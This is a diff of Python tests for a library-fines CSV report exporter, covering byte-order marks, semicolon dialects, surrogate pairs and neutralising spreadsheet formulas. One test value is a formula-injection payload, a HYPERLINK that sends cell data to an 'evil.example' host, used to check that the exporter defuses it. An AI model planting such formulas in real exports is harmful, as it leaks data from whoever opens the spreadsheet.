@@ -166,13 +166,9 @@ def test_cleared_groups_have_one_row_next_to_the_members() -> None:
     assert all(row[column] == "" for row in rows(csv_text(sample_report())) for column in OF_CHANGES.split(","))
 
 
-def test_byte_order_mark() -> None:
-    assert csv_text(sample_report(), bom=True) == "\ufeff" + csv_text(sample_report())
-
-
 def test_for_spreadsheets() -> None:
     plain = csv_text(sample_report())
-    assert csv_text(sample_report(), dialect="spreadsheet") == "\ufeff" + plain
+    assert csv_text(sample_report(), dialect="spreadsheet") == csv_text(sample_report(), bom=True) == "\ufeff" + plain
     semicolons = csv_text(sample_report(), dialect="semicolon")
     assert semicolons.startswith("\ufeffgroup;lead_id;lead_name")
     read = list(csv.DictReader(io.StringIO(semicolons.removeprefix("\ufeff")), delimiter=";"))
@@ -182,12 +178,15 @@ def test_for_spreadsheets() -> None:
     assert read[0]["combined_fines"] == "1289,35"
 
 
-def test_formulas_are_made_harmless() -> None:
+def test_formulas_are_made_harmless_and_half_a_surrogate_pair_is_replaced() -> None:
     hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
     report = report_of([Group(1, (member(1, hostile, "30.00", barcode="-1+1", library="@SUM(A1)"),))])
     [row] = rows(csv_text(report))
     assert row["member_name"] == row["lead_name"] == "'" + hostile
     assert (row["member_barcode"], row["member_library"], row["library"]) == ("'-1+1", "'@SUM(A1)", "'@SUM(A1)")
+    report = report_of([Group(1, (member(1, "Smith\ud83d", "30.00"),))])
+    csv_text(report).encode("utf-8")
+    assert rows(csv_text(report))[0]["member_name"] == "Smith\ufffd"
 
 
 @pytest.mark.parametrize("sign", "=+-@＝")
@@ -206,12 +205,17 @@ def test_the_apostrophe_can_be_taken_back(text: str) -> None:
 
 
 @settings(deadline=None, max_examples=25)
-@given(hostile_reports(), st.booleans())
+@given(hostile_reports() | hostile_changed_reports(), st.booleans())
 def test_hostile_names_read_back(report: Report, bom: bool) -> None:
     text = csv_text(report, bom=bom)
     text.encode("utf-8")
     read = rows(text.removeprefix("\ufeff"))
     members = [one for group in report.groups for one in group.members]
+    cleared = [change.library for change in report.changes.cleared] if report.changes else []
+    assert [taken_back(row["library"]) for row in read[len(members) :]] == cleared
+    assert all(not cell.startswith(FORMULA_SIGNS) or NUMBER.fullmatch(cell) for row in read for cell in row.values())
+    assert not any(None in row for row in read)
+    del read[len(members) :]
     assert [taken_back(row["member_name"]) for row in read] == [one.name for one in members]
     assert [taken_back(row["member_barcode"]) for row in read] == [one.barcode or "" for one in members]
     assert [row["member_own_fines"] for row in read] == [f"{one.own_fines:.2f}" for one in members]
@@ -219,20 +223,3 @@ def test_hostile_names_read_back(report: Report, bom: bool) -> None:
         if report.contacts is not None:
             contact = report.contacts[int(row["group"])]
             assert [taken_back(row[f"contact_{way}"]) for way in WAYS] == [getattr(contact, way) for way in WAYS]
-        assert None not in row
-        assert all(not cell.startswith(FORMULA_SIGNS) or NUMBER.fullmatch(cell) for cell in row.values())
-
-
-@settings(deadline=None, max_examples=30)
-@given(hostile_changed_reports())
-def test_libraries_of_cleared_groups_are_no_formulas(report: Report) -> None:
-    assert report.changes
-    read = [row for row in rows(csv_text(report)) if row["change"] == "cleared"]
-    assert [taken_back(row["library"]) for row in read] == [change.library for change in report.changes.cleared]
-    assert not any(row["library"].startswith(FORMULA_SIGNS) for row in read)
-
-
-def test_half_a_surrogate_pair_does_not_stop_the_report() -> None:
-    report = report_of([Group(1, (member(1, "Smith\ud83d", "30.00"),))])
-    csv_text(report).encode("utf-8")
-    assert rows(csv_text(report))[0]["member_name"] == "Smith\ufffd"
